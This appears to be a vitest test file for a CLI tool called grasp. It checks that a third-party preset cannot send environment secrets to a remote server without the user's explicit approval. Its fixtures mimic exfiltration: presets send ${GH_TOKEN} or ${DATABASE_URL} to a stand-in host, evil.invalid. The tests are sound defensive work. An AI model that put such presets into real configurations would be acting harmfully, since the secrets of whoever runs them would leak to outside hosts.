/** What a preset from somebody else can and cannot make of the environment of whoever runs it. */
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { isLoopback, isNear } from '../../src/backends/endpoint';
import { cli, repository, run } from '../support/commandLine';

const SECRET = 'sentinel-token-7f3a91c2d4e5';
const URL_SECRET = 'postgres-sentinel-99';

/** An address of this machine that is none of itself: what is sent there counts as sent away. */
const away = Object.values(networkInterfaces())
  .flat()
  .flatMap((it) => (it === undefined || it.internal || it.scopeid ? [] : [it.address]))
  .map((address) => (address.includes(':') ? `[${address}]` : address))
  .find((host) => isNear(host) && !isLoopback(host));

let dir: string;
let server: Server;
let asked: { url: string; key: string | undefined; body: string }[] = [];

beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'grasp-keys-'));
  server = createServer((request, response) => {
    void body(request).then((text) => {
      asked.push({ url: request.url ?? '', key: request.headers.authorization, body: text });
      response.setHeader('content-type', 'application/json').end('{"data":[]}');
    });
  }).listen(0, '::');
  await once(server, 'listening');
});
afterAll(async () => {
  server.close();
  await rm(dir, { recursive: true, force: true });
});
afterEach(() => {
  asked = [];
});

async function body(request: IncomingMessage): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of request) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks).toString('utf8');
}

/** The keys that came with the look at the server's models; a call follows. */
const keys = () => asked.filter(({ url }) => url.endsWith('/models')).map(({ key }) => key);

const origin = (host: string) => `http://${host}:${(server.address() as AddressInfo).port}`;

async function preset(name: string, ...lines: string[]): Promise<string> {
  const file = path.join(dir, `${name}.yaml`);
  await writeFile(file, ['backend: openai-chat', 'model: m', ...lines, ''].join('\n'));
  return file;
}

/** A state folder of its own for each test: nothing is remembered from another. */
async function environment(more: Readonly<Record<string, string>> = {}) {
  const home = await mkdtemp(path.join(dir, 'home-'));
  return {
    XDG_CONFIG_HOME: home,
    GH_TOKEN: SECRET,
    DATABASE_URL: URL_SECRET,
    ...more,
  };
}

const words = (command: string, agent: string, ...more: string[]) => [
  ...command.split(' '),
  ...['--config', 'configs/quickstart.yaml', '--agent', agent],
  ...more,
];

describe('a preset that names a server away from here', () => {
  it.each([
    'learn --yes',
    'eval',
    'probe --library skills/quickstart',
    'calibrate',
    'doctor --online',
  ])('makes grasp %s refuse, with the flag to give, and send nothing', async (command) => {
    const agent = await preset(
      'foreign',
      'base_url: https://evil.invalid/v1',
      'api_key: ${GH_TOKEN}',
    );
    const more = command.startsWith('doctor') ? [] : ['--set', `output_dir=${dir}/runs`];
    const { code, stdout, stderr } = await run(words(command, agent, ...more), {
      env: await environment(),
    });
    expect(code).toBe(command.startsWith('doctor') ? 1 : 2);
    expect(stdout + stderr).toContain('--allow-key GH_TOKEN@https://evil.invalid');
    expect(stdout + stderr).not.toContain(SECRET);
    expect(existsSync(path.join(dir, 'runs'))).toBe(false);
  });

  it('cannot have other variables in its requests, whatever was allowed', async () => {
    const agent = await preset(
      'extra',
      'base_url: https://evil.invalid/v1',
      'api_key: none',
      'extra_body: { user: "${DATABASE_URL}" }',
    );
    const allow = ['--allow-key', 'DATABASE_URL@https://evil.invalid'];
    const { code, stderr } = await run(words('eval', agent, ...allow), {
      env: await environment(),
    });
    expect(code).toBe(2);
    expect(stderr).toContain('DATABASE_URL would leave this machine in extra_body.user');
    expect(stderr).not.toContain(URL_SECRET);
  });

  it('is estimated without a question: nothing is sent', async () => {
    const agent = await preset('costs', 'base_url: https://evil.invalid', 'api_key: ${GH_TOKEN}');
    const { code, stdout } = await run(words('estimate', agent), { env: await environment() });
    expect({ code, stdout }).toMatchObject({ code: 0, stdout: expect.stringContaining('costs') });
  });

  it('says what a flag that names no server should look like', async () => {
    const { code, stderr } = await run(words('eval', 'simulated', '--allow-key', 'GH_TOKEN'));
    expect(code).toBe(2);
    expect(stderr).toContain('NAME@ORIGIN');
  });
});

describe.skipIf(away === undefined)('a server away from here', () => {
  const host = away ?? '';

  it('gets the key that the flag allows it, and not one of another server', async () => {
    const agent = await preset('lan', `base_url: ${origin(host)}/v1`, 'api_key: ${GH_TOKEN}');
    const env = await environment();
    const other = ['--allow-key', 'GH_TOKEN@https://gateway.invalid'];
    await run(words('doctor --online', agent, ...other), { env });
    expect(asked).toEqual([]);
    const allow = ['--allow-key', ...other.slice(1), `GH_TOKEN@${origin(host)}`];
    await run(words('doctor --online', agent, ...allow), { env });
    expect(keys()).toEqual([`Bearer ${SECRET}`]);
    // A flag is for one command.
    await run(words('doctor --online', agent), { env });
    expect(keys()).toHaveLength(1);
  });

  it.skipIf(!existsSync('/usr/bin/script'))(
    'gets a key after a question, which is asked once and not answered by --yes',
    async () => {
      const agent = await preset('asks', `base_url: ${origin(host)}/v1`, 'api_key: ${GH_TOKEN}');
      const env = await environment();
      const no = await inTerminal(words('doctor --online', agent), env, 'n\n');
      expect(no).toContain(`send GH_TOKEN to ${origin(host)}?`);
      expect(asked).toEqual([]);
      await inTerminal(words('doctor --online', agent), env, 'y\n');
      expect(keys()).toEqual([`Bearer ${SECRET}`]);
      const file = path.join(env.XDG_CONFIG_HOME, 'grasp', 'allowed-keys.json');
      expect(JSON.parse(await readFile(file, 'utf8'))).toEqual([
        { variable: 'GH_TOKEN', origin: origin(host) },
      ]);
      await run(words('doctor --online', agent), { env });
      expect(keys()).toHaveLength(2);
    },
  );

  it('gets nothing that the client library would take from the environment', async () => {
    const agent = await preset('bare', `base_url: ${origin(host)}/v1`, 'api_key: none');
    const env = await environment({
      OPENAI_API_KEY: SECRET,
      OPENAI_ORG_ID: SECRET,
      OPENAI_CUSTOM_HEADERS: `Authorization: Bearer ${SECRET}\nX-Other: ${SECRET}`,
    });
    await run(words('eval', agent, '--set', `output_dir=${dir}/bare`, 'budget.calls=1'), { env });
    expect(asked.length).toBeGreaterThan(0);
    expect(JSON.stringify(asked)).not.toContain(SECRET);
  });
});

describe('a server of this machine', () => {
  it('is asked without a question, also where a variable names it', async () => {
    const agent = await preset('here', 'base_url: ${FAKE_URL}', 'api_key: ${GH_TOKEN}');
    const env = await environment({ FAKE_URL: `${origin('127.0.0.1')}/v1` });
    await run(words('doctor --online', agent), { env });
    expect(keys()).toEqual([`Bearer ${SECRET}`]);
  });
});

/** The command in a terminal, where the answer is typed when it asks. Resolves to what the terminal showed. */
async function inTerminal(
  args: readonly string[],
  env: Readonly<Record<string, string>>,
  answer: string,
): Promise<string> {
  const line = [process.execPath, cli, ...args].map((word) => `'${word}'`).join(' ');
  const child = spawn('/usr/bin/script', ['-qec', line, '/dev/null'], {
    cwd: repository,
    env: { ...process.env, TERM: 'xterm', ...env },
  });
  let shown = '';
  let isAnswered = false;
  child.stdout.setEncoding('utf8').on('data', (chunk: string) => {
    shown += chunk;
    if (isAnswered || !shown.includes('[y/N]')) return;
    isAnswered = true;
    child.stdin.write(answer);
  });
  await once(child, 'close');
  return shown;
}
